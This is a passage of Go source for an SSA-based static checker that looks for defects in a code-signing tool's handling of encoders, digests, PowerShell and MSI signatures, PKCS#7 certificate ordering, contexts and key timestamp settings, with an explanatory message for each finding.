	"encoding/base64.NewEncoder":                               "Close",
	"bufio.NewWriter":                                          "Flush",
	"bufio.NewWriterSize":                                      "Flush",
}

// encodersFinishedWithError: an encoder that holds output back until it is finished (armor, gzip,
// zlib, tar, zip, base64, bufio) writes its last bytes in Close / Flush. Where a function finishes
// such an encoder itself, at least one finishing call has its error looked at: a function that only
// defers the Close (or drops its result) reports success for an output whose tail was never written.
func encodersFinishedWithError(p *Prog, within map[*ssa.Function]bool) (out []gFinding) {
	for _, fn := range p.Funcs {
		if within != nil && !within[fn] && !within[p.Outer(fn)] {
			continue
		}
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				finish, ok := encoderConstructors[p.calleeNameFull(call.Common())]
				if !ok {
					continue
				}
				// the encoder value and what it flows into inside this function
				var root ssa.Value = call
				if call.Common().Signature().Results().Len() > 1 {
					root = nil
					for _, r := range *call.Referrers() {
						if e, ok := r.(*ssa.Extract); ok && e.Index == 0 {
							root = e
						}
					}
				}
				if root == nil {
					continue
				}
				vals := map[ssa.Value]bool{root: true}
				for changed := true; changed; {
					changed = false
					for v := range vals {
						refs := v.Referrers()
						if refs == nil {
							continue
						}
						for _, r := range *refs {
							switch x := r.(type) {
							case *ssa.Phi, *ssa.MakeInterface, *ssa.ChangeInterface, *ssa.ChangeType:
								if !vals[x.(ssa.Value)] {
									vals[x.(ssa.Value)] = true
									changed = true
								}
							case *ssa.Store:
								if a, ok := x.Addr.(*ssa.Alloc); ok && x.Val == v {
									for _, ar := range *a.Referrers() {
										if l, ok := ar.(*ssa.UnOp); ok && l.Op == token.MUL && !vals[l] {
											vals[l] = true
											changed = true
										}
									}
								}
							}
						}
					}
				}
				var finishes []ssa.CallInstruction
				for _, f := range withClosures(fn) {
					for _, bb := range f.Blocks {
						for _, i2 := range bb.Instrs {
							ci, ok := i2.(ssa.CallInstruction)
							if !ok {
								continue
							}
							cc := ci.Common()
							var recv ssa.Value
							name := ""
							if cc.IsInvoke() {
								recv, name = cc.Value, cc.Method.Name()
							} else if sc := cc.StaticCallee(); sc != nil && sc.Signature.Recv() != nil && len(cc.Args) > 0 {
								recv, name = cc.Args[0], sc.Name()
							}
							if name != finish || recv == nil {
								continue
							}
							if vals[recv] {
								finishes = append(finishes, ci)
							}
						}
					}
				}
				if len(finishes) == 0 {
					continue // finished by someone else (returned, stored): not judged here
				}
				if errResultIndex(fn.Signature) < 0 {
					continue // the function has no way of reporting it
				}
				n++
				looked := false
				for _, ci := range finishes {
					if errDisposition(ci) != errDropped {
						looked = true
					}
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s finishes encoder#%d (%s) with its error looked at", p.FName(fn), n, shortCallee(p.calleeNameFull(call.Common()))), Pos: p.Pos(call.Pos()), OK: looked,
					Detail: "every " + finish + " of this encoder is deferred or has its result dropped: the encoder writes its last bytes (pending line, checksum, trailer) there, so a write error at the very end is swallowed, the function reports success and the caller commits an output whose tail is missing"})
			}
		}
	}
	return out
}

func shortCallee(s string) string {
	if i := strings.LastIndex(s, "/"); i >= 0 {
		return s[i+1:]
	}
	return s
}

// calleeNameFull: like calleeName but never module-relative (dependencies keep their import path).
func (p *Prog) calleeNameFull(c *ssa.CallCommon) string {
	if f := c.StaticCallee(); f != nil {
		if f.Pkg != nil && f.Signature.Recv() == nil {
			return f.Pkg.Pkg.Path() + "." + f.Name()
		}
		return f.String()
	}
	return ""
}

// ------------------------------------------------------------------------------ R02k

// digestedBytesNotTrimmed: nothing written into a digest is the result of a trimming function that
// removes blanks (bytes/strings TrimSpace, Trim/TrimRight/TrimLeft with a cutset holding a space or
// a tab, TrimFunc): a change confined to the removed characters leaves the digest, and with it the
// verdict, unchanged. Line-ending normalisation (cutsets of CR and LF only, TrimSuffix) is not judged.
func digestedBytesNotTrimmed(p *Prog) (out []gFinding) {
	isHashType := func(t types.Type) bool {
		s := types.TypeString(t, nil)
		return s == "hash.Hash" || s == "hash.Hash32" || s == "hash.Hash64"
	}
	// hash sinks: values of a hash type, and io.Writer parameters that receive one at some call site
	sinkParam := map[*ssa.Parameter]bool{}
	isSink := func(v ssa.Value) bool {
		v0 := v
		for i := 0; i < 4; i++ {
			if isHashType(v0.Type()) {
				return true
			}
			if pa, ok := v0.(*ssa.Parameter); ok && sinkParam[pa] {
				return true
			}
			switch x := v0.(type) {
			case *ssa.ChangeInterface:
				v0 = x.X
			case *ssa.MakeInterface:
				v0 = x.X
			case *ssa.Phi:
				for _, e := range x.Edges {
					if isHashType(e.Type()) {
						return true
					}
					if pa, ok := e.(*ssa.Parameter); ok && sinkParam[pa] {
						return true
					}
				}
				return false
			default:
				return false
			}
		}
		return false
	}
	for changed, round := true, 0; changed && round < 4; round++ {
		changed = false
		for _, fn := range p.Funcs {
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					ci, ok := in.(ssa.CallInstruction)
					if !ok {
						continue
					}
					sc := ci.Common().StaticCallee()
					if sc == nil || len(sc.Blocks) == 0 || !p.InModule(pkgOf(sc)) {
						continue
					}
					for k, a := range ci.Common().Args {
						if k < len(sc.Params) && types.TypeString(sc.Params[k].Type(), nil) == "io.Writer" && !sinkParam[sc.Params[k]] && isSink(a) {
							sinkParam[sc.Params[k]] = true
							changed = true
						}
					}
				}
			}
		}
	}
	trims := func(v ssa.Value) string {
		found := ""
		dependsOnNoCallArgs(v, func(x ssa.Value) bool {
			call, ok := x.(*ssa.Call)
			if !ok {
				return false
			}
			name := p.calleeName(call.Common())
			switch name {
			case "bytes.TrimSpace", "strings.TrimSpace", "bytes.TrimFunc", "strings.TrimFunc", "bytes.TrimRightFunc", "strings.TrimRightFunc", "bytes.TrimLeftFunc", "strings.TrimLeftFunc", "bytes.Fields", "strings.Fields":
				found = name
				return true
			case "bytes.Trim", "strings.Trim", "bytes.TrimRight", "strings.TrimRight", "bytes.TrimLeft", "strings.TrimLeft":
				cut, isC := constString(call.Common().Args[1])
				if !isC || strings.ContainsAny(cut, " \t") {
					found = fmt.Sprintf("%s(…, %q)", name, cut)
					return true
				}
			}
			return false
		})
		return found
	}
	for _, fn := range p.Funcs {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cc := ci.Common()
				var data ssa.Value
				switch {
				case cc.IsInvoke() && cc.Method.Name() == "Write" && len(cc.Args) == 1 && isSink(cc.Value):
					data = cc.Args[0]
				case !cc.IsInvoke() && p.calleeName(cc) == "io.WriteString" && isSink(cc.Args[0]):
					data = cc.Args[1]
				default:
					continue
				}
				n++
				how := trims(data)
				out = append(out, gFinding{Key: fmt.Sprintf("%s digest write#%d takes its bytes untrimmed", p.FName(fn), n), Pos: p.Pos(in.Pos()), OK: how == "",
					Detail: "what is written into the digest went through " + how + ", which removes blanks: a modification confined to spaces or tabs at the trimmed end of a line leaves the digest unchanged, so the altered document verifies under the original signature"})
			}
		}
	}
	return out
}

// dependsOnNoCallArgs: walks the operands of v backwards like dependsOn, testing calls but following only
// their first (data) argument, slices, conversions, phis and local cells.
func dependsOnNoCallArgs(v ssa.Value, pred func(ssa.Value) bool) bool {
	seen := map[ssa.Value]bool{}
	var walk func(v ssa.Value, d int) bool
	walk = func(v ssa.Value, d int) bool {
		if v == nil || seen[v] || d > 20 {
			return false
		}
		seen[v] = true
		if pred(v) {
			return true
		}
		switch x := v.(type) {
		case *ssa.Call:
			if len(x.Common().Args) > 0 && !x.Common().IsInvoke() {
				return walk(x.Common().Args[0], d+1)
			}
		case *ssa.Slice:
			return walk(x.X, d+1)
		case *ssa.Convert:
			return walk(x.X, d+1)
		case *ssa.ChangeType:
			return walk(x.X, d+1)
		case *ssa.Phi:
			for _, e := range x.Edges {
				if walk(e, d+1) {
					return true
				}
			}
		case *ssa.Extract:
			return walk(x.Tuple, d+1)
		case *ssa.UnOp:
			if a, ok := x.X.(*ssa.Alloc); ok && x.Op == token.MUL {
				for _, r := range *a.Referrers() {
					if st, ok := r.(*ssa.Store); ok && st.Addr == ssa.Value(a) && walk(st.Val, d+1) {
						return true
					}
				}
			}
		}
		return false
	}
	return walk(v, 0)
}

// ------------------------------------------------------------------------------ R02l

// psMarkerTestsAgree: the PowerShell digester (which decides where the signed text ends) and the
// verifier (which decides where the signature is read from) recognise the "Begin signature block"
// line by the same test: the line as read compared with the marker as built, or both through the
// same helper. A digester that is more lenient than the verifier stops at a line the verifier reads
// over, so text placed between that line and the real block is neither digested nor rejected.
func psMarkerTestsAgree(p *Prog) (out []gFinding) {
	shapeOf := func(fn *ssa.Function) (map[string]bool, string) {
		shapes := map[string]bool{}
		pos := ""
		chain := func(v ssa.Value) (string, string) {
			names := ""
			for i := 0; i < 6; i++ {
				switch x := v.(type) {
				case *ssa.Extract:
					if call, ok := x.Tuple.(*ssa.Call); ok {
						return names, fmt.Sprintf("%s#%d", shortCallee(p.calleeName(call.Common())), x.Index)
					}
					return names, ""
				case *ssa.Call:
					if len(x.Common().Args) == 0 {
						return names, ""
					}
					names += shortCallee(p.calleeName(x.Common())) + "("
					v = x.Common().Args[0]
				case *ssa.Phi:
					// a loop-carried or merged copy: take the first non-phi edge
					var next ssa.Value
					for _, e := range x.Edges {
						if _, isPhi := e.(*ssa.Phi); !isPhi {
							next = e
							break
						}
					}
					if next == nil {
						return names, ""
					}
					v = next
				default:
					return names, ""
				}
			}
			return names, ""
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				bo, ok := in.(*ssa.BinOp)
				if !ok || (bo.Op != token.EQL && bo.Op != token.NEQ) {
					continue
				}
				nx, sx := chain(bo.X)
				ny, sy := chain(bo.Y)
				var line, marker string
				switch {
				case strings.HasSuffix(sx, "readLine#0") && strings.HasSuffix(sy, "detectUtf16#1"):
					line, marker = nx, ny
				case strings.HasSuffix(sy, "readLine#0") && strings.HasSuffix(sx, "detectUtf16#1"):
					line, marker = ny, nx
				default:
					continue
				}
				shapes["line:"+line+" marker:"+marker] = true
				pos = p.Pos(bo.Pos())
			}
		}
		return shapes, pos
	}
	dig := p.Func("lib/authenticode.DigestPowershell")
	ver := p.Func("lib/authenticode.VerifyPowershell")
	if dig == nil || ver == nil {
		return []gFinding{{Key: "DigestPowershell / VerifyPowershell", Pos: "-", OK: false, Detail: "function not found"}}
	}
	ds, dpos := shapeOf(dig)
	vs, _ := shapeOf(ver)
	if len(ds) == 0 || len(vs) == 0 {
		return []gFinding{{Key: "PowerShell begin-marker tests", Pos: p.Pos(dig.Pos()), OK: false, Detail: fmt.Sprintf("no comparison of a line read by readLine with the begin marker found (digester %d, verifier %d)", len(ds), len(vs))}}
	}
	same := len(ds) == len(vs)
	for k := range ds {
		if !vs[k] {
			same = false
		}
	}
	return []gFinding{{Key: "DigestPowershell and VerifyPowershell recognise the begin marker by the same test", Pos: dpos, OK: same,
		Detail: fmt.Sprintf("the digester tests %v, the verifier %v: a line the digester takes for the start of the signature block and the verifier does not (another line ending) ends the digested text early, and whatever follows it up to the real block is executed by PowerShell but covered by no digest", sortedKeys(ds), sortedKeys(vs))}}
}

// ------------------------------------------------------------------------------ R15i

// callerContextHonoured: a token-layer function that is given a context runs none of its blocking
// steps under a fresh background context, neither directly nor through a helper that takes no
// context: a caller that was cancelled or timed out is not kept waiting, and the backend is not
// driven for a request that has gone.
func callerContextHonoured(p *Prog) (out []gFinding) {
	isCtx := func(t types.Type) bool { return types.TypeString(t, nil) == "context.Context" }
	hasCtxParam := func(fn *ssa.Function) bool {
		for _, pa := range fn.Params {
			if isCtx(pa.Type()) {
				return true
			}
		}
		return false
	}
	// background contexts handed to a call inside fn
	var background func(fn *ssa.Function, depth int, seen map[*ssa.Function]bool) string
	background = func(fn *ssa.Function, depth int, seen map[*ssa.Function]bool) string {
		if seen[fn] || len(fn.Blocks) == 0 {
			return ""
		}
		seen[fn] = true
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				if _, isGo := in.(*ssa.Go); isGo {
					continue // work handed to a goroutine that outlives the call is a different matter
				}
				for _, a := range ci.Common().Args {
					if !isCtx(a.Type()) {
						continue
					}
					for _, l := range ctxLeaves(p, a, map[ssa.Value]bool{}, nil) {
						if c, ok := l.(*ssa.Call); ok {
							switch p.calleeName(c.Common()) {
							case "context.Background", "context.TODO":
								return p.Pos(in.Pos())
							}
						}
					}
				}
				if depth > 0 {
					if sc := ci.Common().StaticCallee(); sc != nil && p.InModule(pkgOf(sc)) && !hasCtxParam(sc) {
						if at := background(sc, depth-1, seen); at != "" {
							return at
						}
					}
				}
			}
		}
		return ""
	}
	n := 0
	for _, fn := range p.Funcs {
		pk := pkgOf(fn)
		if pk == nil || !strings.Contains(p.Rel(pk.Path()), "token") || !hasCtxParam(fn) || fn.Parent() != nil {
			continue
		}
		n++
		at := background(fn, 2, map[*ssa.Function]bool{})
		out = append(out, gFinding{Key: p.FName(fn) + " runs its steps under the context it was given", Pos: p.Pos(fn.Pos()), OK: at == "",
			Detail: "a step of this function runs under context.Background() (" + at + ") although the function was given a context: a caller that is cancelled or times out while this step blocks (a limiter queue, a backend call) stays blocked, and the backend is still driven afterwards for a request that has gone"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "token-layer functions with a context parameter", Pos: "-", OK: false, Detail: "none found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R15j

// workerAnswersInBody: the worker's client decodes the JSON answer - which carries the error, whether
// it may be retried and whether it is a key-usage error - only from a reply with status 200, and
// classifies every other status by its number. The worker's handler therefore writes the marshalled
// workerrpc.Response under status 200: no WriteHeader with another value can precede that write.
func workerAnswersInBody(p *Prog) (out []gFinding) {
	cl := workerAttemptFn(p)
	sv := p.Func("cmdline/workercmd.(*handler).ServeHTTP")
	if cl == nil || sv == nil {
		return []gFinding{{Key: "worker doOnce / handler.ServeHTTP", Pos: "-", OK: false, Detail: "function not found"}}
	}
	// premise: the client's decode is behind StatusCode == 200
	premise := false
	for _, b := range cl.Blocks {
		for _, in := range b.Instrs {
			bo, ok := in.(*ssa.BinOp)
			if !ok || (bo.Op != token.EQL && bo.Op != token.NEQ) {
				continue
			}
			for _, pair := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
				if _, f, _ := p.fieldLoad(pair[0]); f == "StatusCode" {
					if k, ok := constInt(pair[1]); ok && k == 200 {
						premise = true
					}
				}
			}
		}
	}
	if !premise {
		return []gFinding{{Key: "the worker client decodes the answer of a 200 only", Pos: p.Pos(cl.Pos()), OK: false, Detail: "doOnce no longer compares the status with 200: the rule's premise is gone, re-derive it"}}
	}
	n := 0
	for _, body := range p.callsIn(sv, "(net/http.ResponseWriter).Write") {
		// only the write of the marshalled response
		isAnswer := dependsOn(body.Common().Args[0], func(x ssa.Value) bool {
			c, ok := x.(*ssa.Call)
			return ok && p.calleeName(c.Common()) == "encoding/json.Marshal"
		})
		if !isAnswer {
			continue
		}
		n++
		bad := ""
		for _, wh := range p.callsIn(sv, "(net/http.ResponseWriter).WriteHeader") {
			if !reachableAfter(sv, wh, body, nil, nil) {
				continue
			}
			for _, lf := range phiLeaves(wh.Common().Args[0], nil, map[*ssa.Phi]bool{}) {
				if k, ok := constInt(lf.V); !ok || k != 200 {
					bad = p.Pos(wh.Pos())
				}
			}
		}
		out = append(out, gFinding{Key: fmt.Sprintf("(*handler).ServeHTTP writes answer#%d under status 200", n), Pos: p.Pos(body.Pos()), OK: bad == "",
			Detail: "the marshalled workerrpc.Response is written after WriteHeader (" + bad + ") with a status that can differ from 200: the client ignores the body of such a reply, so the worker's verdict (do not retry, key-usage error) is lost - permanent errors are retried with backoff and a key-usage error no longer reaches the server's 400 answer"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "(*handler).ServeHTTP writes the marshalled answer", Pos: p.Pos(sv.Pos()), OK: false, Detail: "no ResponseWriter.Write of a json.Marshal result found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R18k, R18l

// closePadsLastSector: ComDoc.Close sets the file length to the end of the last used sector whenever
// there is one: the Truncate both cuts a freed tail off and pads a last sector that a mini-stream
// write left partly filled. No path from "this sector is in use" to a successful return goes round it.
func closePadsLastSector(p *Prog) (out []gFinding) {
	closeFn := p.Func("lib/comdoc.(*ComDoc).Close")
	if closeFn == nil {
		return []gFinding{{Key: "(*ComDoc).Close", Pos: "-", OK: false, Detail: "function not found"}}
	}
	truncsOf := func(f *ssa.Function) (truncs []ssa.CallInstruction) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				if ci, ok := in.(ssa.CallInstruction); ok {
					cc := ci.Common()
					name := ""
					if cc.IsInvoke() {
						name = cc.Method.Name()
					} else if sc := cc.StaticCallee(); sc != nil {
						name = sc.Name()
					}
					if name == "Truncate" {
						truncs = append(truncs, ci)
					}
				}
			}
		}
		return
	}
	fn := closeFn
	truncs := truncsOf(fn)
	if len(truncs) == 0 {
		// the step was given a name: a helper of the package that Close calls on every successful path and
		// whose failure it hands on
		for _, b := range closeFn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				g := ci.Common().StaticCallee()
				if g == nil || pkgOf(g) != pkgOf(closeFn) || len(g.Blocks) == 0 || len(truncsOf(g)) == 0 {
					continue
				}
				// must-pass in Close: no successful return of a changed document goes round the call
				okVia := true
				del := map[edge]bool{}
				for si := range ci.Block().Succs {
					del[edge{ci.Block().Index, si}] = true
				}
				// the early return for an unchanged document is not concerned: it precedes every write
				var firstWrite ssa.Instruction
				for _, w := range p.callsIn(closeFn, "(*lib/comdoc.ComDoc).writeShortSAT", "(*lib/comdoc.ComDoc).writeDirStream", "(*lib/comdoc.ComDoc).writeSAT") {
					if firstWrite == nil {
						firstWrite = w
					}
				}
				if firstWrite != nil {
					seen := reachAfter(closeFn, firstWrite, del, nil)
					for _, r := range p.successReturns(closeFn) {
						if seen[r.Block().Index] && r.Block() != ci.Block() {
							okVia = false
						}
					}
				}
				if ev := errValueOf(ci); ev != nil {
					if r, _ := p.failureReachesSuccess(closeFn, ev); r != nil {
						okVia = false
					}
				}
				out = append(out, gFinding{Key: "(*ComDoc).Close runs its truncation step on every successful path and hands its failure on", Pos: p.Pos(ci.Pos()), OK: okVia,
					Detail: "Close can succeed for a changed document without having run " + p.FName(g) + ", or although it failed: the file keeps a freed tail or ends in the middle of its last sector"})
				fn = g
				truncs = truncsOf(g)
			}
		}
	}
	if len(truncs) == 0 {
		return []gFinding{{Key: "(*ComDoc).Close sets the file length", Pos: p.Pos(closeFn.Pos()), OK: false, Detail: "no Truncate call found"}}
	}
	n := 0
	for _, b := range fn.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		bo, ok := ifi.Cond.(*ssa.BinOp)
		if !ok || (bo.Op != token.NEQ && bo.Op != token.EQL) {
			continue
		}
		var elem ssa.Value
		for _, pair := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
			if k, ok := constInt(pair[1]); ok && k == -1 {
				elem = pair[0]
			}
		}
		if elem == nil {
			continue
		}
		l, ok := elem.(*ssa.UnOp)
		if !ok {
			continue
		}
		ia, ok := l.X.(*ssa.IndexAddr)
		if !ok {
			continue
		}
		if _, f, _ := p.fieldLoad(ia.X); f != "SAT" {
			continue
		}
		n++
		used := b.Succs[0]
		if bo.Op == token.EQL {
			used = b.Succs[1]
		}
		del := map[edge]bool{}
		for _, t := range truncs {
			for si := range t.Block().Succs {
				del[edge{t.Block().Index, si}] = true
			}
		}
		pred := map[int]int{}
		seen := reach(fn, []*ssa.BasicBlock{used}, del, pred)
		bad := ""
		for _, r := range p.successReturns(fn) {
			inTrunc := false
			for _, t := range truncs {
				if t.Block() == r.Block() {
					inTrunc = true
				}
			}
			if seen[r.Block().Index] && !inTrunc {
				bad = p.Pos(r.Pos())
			}
		}
		out = append(out, gFinding{Key: fmt.Sprintf("(*ComDoc).Close sets the length to the end of the last used sector #%d", n), Pos: p.Pos(ifi.Pos()), OK: bad == "",
			Detail: "from the point where the last used sector is found, Close can return successfully (" + bad + ") without calling Truncate: the call is what pads a last sector that was only partly written (the mini stream grew by a sector at the end of the file), so the file ends in the middle of an allocated, chained sector and independent readers reject it"})
	}
	// whatever the shape: no test that decides whether Truncate runs looks at the file's present size
	for i, t := range truncs {
		bad := ""
		for _, b := range fn.Blocks {
			ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
			if !ok || b == t.Block() || !b.Dominates(t.Block()) {
				continue
			}
			sized := dependsOn(ifi.Cond, func(x ssa.Value) bool {
				c, ok := x.(*ssa.Call)
				if !ok {
					return false
				}
				name := ""
				if c.Common().IsInvoke() {
					name = c.Common().Method.Name()
				} else if sc := c.Common().StaticCallee(); sc != nil {
					name = sc.Name()
				}
				return name == "Stat" || name == "Size" || name == "Seek"
			})
			if !sized {
				continue
			}
			// one side of the test goes round the call
			del := map[edge]bool{}
			for si := range t.Block().Succs {
				del[edge{t.Block().Index, si}] = true
			}
			for _, s := range b.Succs {
				seen := reach(fn, []*ssa.BasicBlock{s}, del, nil)
				for _, r := range p.successReturns(fn) {
					if seen[r.Block().Index] && r.Block() != t.Block() && s != t.Block() {
						bad = p.Pos(ifi.Pos())
					}
				}
			}
		}
		out = append(out, gFinding{Key: fmt.Sprintf("(*ComDoc).Close Truncate#%d does not hang on the file's present size", i+1), Pos: p.Pos(t.Pos()), OK: bad == "",
			Detail: "whether Close sets the file length is decided by a test of the file's present size (" + bad + "): a file that is shorter than the end of its last used sector - the mini stream grew by a sector at the end and only part of it was written - is left as it is, ending in the middle of an allocated, chained sector"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "(*ComDoc).Close looks for the last used sector", Pos: p.Pos(fn.Pos()), OK: true, Detail: "the scan of the sector table is not in Close itself (a helper computes the end): the path clause is not applicable, the size clause above was decided"})
	}
	return out
}

// walkersEmitStorageID: each walk over an MSI storage (the digest and the tar form of it) hands on
// the storage's UID on every successful path, an empty storage included.
func walkersEmitStorageID(p *Prog) (out []gFinding) {
	for _, spec := range []string{"lib/authenticode.hashMsiDir", "lib/authenticode.msiToTarDir"} {
		fn := msiWalker(p, spec)
		if fn == nil {
			out = append(out, gFinding{Key: spec, Pos: "-", OK: false, Detail: "function not found"})
			continue
		}
		// the storage being walked: what ListDir is asked about
		var walked ssa.Value
		for _, ci := range p.callsIn(fn, "(*lib/comdoc.ComDoc).ListDir") {
			if a := ci.Common().Args; len(a) > 1 {
				walked = a[1]
			}
		}
		var emits []ssa.CallInstruction
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				for _, a := range ci.Common().Args {
					if sl, ok := a.(*ssa.Slice); ok {
						if _, f, base := p.fieldAddr(sl.X); f == "UID" {
							for {
								fa, ok := base.(*ssa.FieldAddr) // promoted through an embedded struct
								if !ok {
									break
								}
								base = fa.X
							}
							if walked != nil && base != nil && base != walked {
								out = append(out, gFinding{Key: p.FName(fn) + " hands on the UID of the storage it walks", Pos: p.Pos(ci.Pos()), OK: false,
									Detail: "the UID handed on is not the one of the storage whose entries were just listed (the ListDir argument): for a nested storage the class id that follows its contents is another storage's, the tar form and the direct form of the digest differ and a freshly signed nested MSI fails verification"})
								continue
							}
							emits = append(emits, ci)
						}
					}
				}
			}
		}
		key := p.FName(fn) + " hands on the storage UID on every successful path"
		if len(emits) == 0 {
			out = append(out, gFinding{Key: key, Pos: p.Pos(fn.Pos()), OK: false, Detail: "no call is given the storage's UID"})
			continue
		}
		del := map[edge]bool{}
		for _, e := range emits {
			for si := range e.Block().Succs {
				del[edge{e.Block().Index, si}] = true
			}
		}
		seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)
		bad := ""
		for _, r := range p.successReturns(fn) {
			inEmit := false
			for _, e := range emits {
				if e.Block() == r.Block() && instrIndex(e) < instrIndex(r) {
					inEmit = true
				}
			}
			if seen[r.Block().Index] && !inEmit {
				bad = p.Pos(r.Pos())
			}
		}
		out = append(out, gFinding{Key: key, Pos: p.Pos(emits[0].Pos()), OK: bad == "",
			Detail: "the walk can return successfully (" + bad + ") without handing on the storage's UID: the digest of an MSI covers the class id of every storage after its contents, empty storages included, so the tar form and the direct form of the digest differ for a package with such a storage and the file relic has just signed fails verification"})
	}
	return out
}

// ------------------------------------------------------------------------------ R07i / R16j

// cmsListsKeepOrder: encoding/asn1 sorts the elements of a field tagged `set` when it marshals.
// The certificate and CRL lists of SignedData are emitted in the order the builder put them in
// (leaf first) and re-emitted in the order they were parsed in: their tags carry no `set`.
func cmsListsKeepOrder(p *Prog) (out []gFinding) {
	pk := p.Pkg("lib/pkcs7")
	if pk == nil {
		return []gFinding{{Key: "lib/pkcs7", Pos: "-", OK: false, Detail: "package not found"}}
	}
	obj := pk.Types.Scope().Lookup("SignedData")
	if obj == nil {
		return []gFinding{{Key: "pkcs7.SignedData", Pos: "-", OK: false, Detail: "type not found"}}
	}
	st, ok := obj.Type().Underlying().(*types.Struct)
	if !ok {
		return []gFinding{{Key: "pkcs7.SignedData", Pos: "-", OK: false, Detail: "not a struct"}}
	}
	n := 0
	for i := 0; i < st.NumFields(); i++ {
		f := st.Field(i)
		if f.Name() != "Certificates" && f.Name() != "CRLs" {
			continue
		}
		n++
		tag := reflectTag(st.Tag(i), "asn1")
		isSet := false
		for _, part := range strings.Split(tag, ",") {
			if strings.TrimSpace(part) == "set" {
				isSet = true
			}
		}
		out = append(out, gFinding{Key: "pkcs7.SignedData." + f.Name() + " is marshalled in the order given", Pos: p.Pos(f.Pos()), OK: !isSet,
			Detail: "the field is tagged `set`: encoding/asn1 sorts the elements of a SET OF by their encoding when it marshals, so the emitted certificate list no longer begins with the signer's certificate (consumers that take the first certificate as the signer pair the signature with a CA certificate) and a parsed structure is re-emitted in another order than it was read in"})
	}
	if n != 2 {
		out = append(out, gFinding{Key: "pkcs7.SignedData has Certificates and CRLs", Pos: p.Pos(obj.Pos()), OK: false, Detail: fmt.Sprintf("%d of the two fields found", n)})
	}
	return out
}

func reflectTag(tag, key string) string {
	// a minimal reflect.StructTag.Get
	for tag != "" {
		i := 0
		for i < len(tag) && tag[i] == ' ' {
			i++
		}
		tag = tag[i:]
		if tag == "" {
			break
		}
		i = 0
		for i < len(tag) && tag[i] > ' ' && tag[i] != ':' && tag[i] != '"' {
			i++
		}
		if i == 0 || i+1 >= len(tag) || tag[i] != ':' || tag[i+1] != '"' {
			break
		}
		name := tag[:i]
		tag = tag[i+1:]
		i = 1
		for i < len(tag) && tag[i] != '"' {
			if tag[i] == '\\' {
				i++
			}
			i++
		}
		if i >= len(tag) {
			break
		}
		val := tag[1:i]
		tag = tag[i+1:]
		if name == key {
			return val
		}
	}
	return ""
}

// ------------------------------------------------------------------------------ R10k

// keyTimestampSettingsAsConfigured: whether a key's signatures are timestamped is what the
// configuration says for that key. Config.GetKey hands out the entry of Config.Keys itself (for an
// alias: the entry of the key it points to), never an edited copy, and nothing in the module
// assigns KeyConfig.Timestamp or KeyConfig.Timestamper.
func keyTimestampSettingsAsConfigured(p *Prog) (out []gFinding) {
	gk := p.Func("config.(*Config).GetKey")
	if gk == nil {
		return []gFinding{{Key: "(*Config).GetKey", Pos: "-", OK: false, Detail: "function not found"}}
	}
	n := 0
	for _, r := range p.successReturns(gk) {
		for _, lf := range phiLeaves(retVal(r, 0), nil, map[*ssa.Phi]bool{}) {
			n++
			fromTable := false
			v := lf.V
			if ex, ok := v.(*ssa.Extract); ok {
				v = ex.Tuple
			}
			if lk, ok := v.(*ssa.Lookup); ok {
				if _, f, _ := p.fieldLoad(lk.X); f == "Keys" {
					fromTable = true
				}
			}
			out = append(out, gFinding{Key: fmt.Sprintf("(*Config).GetKey returns an entry of the configured key table #%d", n), Pos: p.Pos(r.Pos()), OK: fromTable,
				Detail: "GetKey can return something other than an entry of Config.Keys (" + describeVal(p, lf.V) + "): a copy edited on the way out can differ from the configured key in whether and where its signatures are timestamped - an alias that does not repeat `timestamp: true` then signs without a timestamp and nothing reports it"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "(*Config).GetKey has a success return", Pos: p.Pos(gk.Pos()), OK: false, Detail: "none found"})
	}
	m := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				tn, f, _ := p.fieldAddr(st.Addr)
				if tn != "config.KeyConfig" || (f != "Timestamp" && f != "Timestamper") {
					continue
				}
				m++
				out = append(out, gFinding{Key: fmt.Sprintf("%s assigns KeyConfig.%s#%d", p.FName(fn), f, m), Pos: p.Pos(st.Pos()), OK: false,
					Detail: "a key's timestamp setting is assigned in code (only the configuration loader's unmarshalling fills it): the key is then signed with or without a timestamp regardless of what was configured for it"})
			}
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R02m

// wrongErrorExceptions: sites of R02m that were read and found unreachable, one symbol each.
var wrongErrorExceptions = map[string]string{
	"cmdline/verify.verifyOne#1": "`return err` after magic.Decompress failed returns the nil error of OpenFile, but the branch cannot be taken: Decompress fails only for a compression other than none, the branch is entered only for signers with a VerifyStream (pgp, appmanifest), and DetectCompressed reports a compressed file only as a tar-based type or as unknown, neither of which selects those signers. Latent, not demonstrable; noted in DESIGN 9.3",
}

// failureReturnsNilError: in the branch taken because one call failed (its error is non-nil), the
// function returns, as its error, another error value that is known to be nil on that path (it was
// tested and found nil on every way there). The failure is reported as success: the wrong variable
// was returned.
func failureReturnsNilError(p *Prog) (out []gFinding) {
	for _, fn := range p.Funcs {
		ei := errResultIndex(fn.Signature)
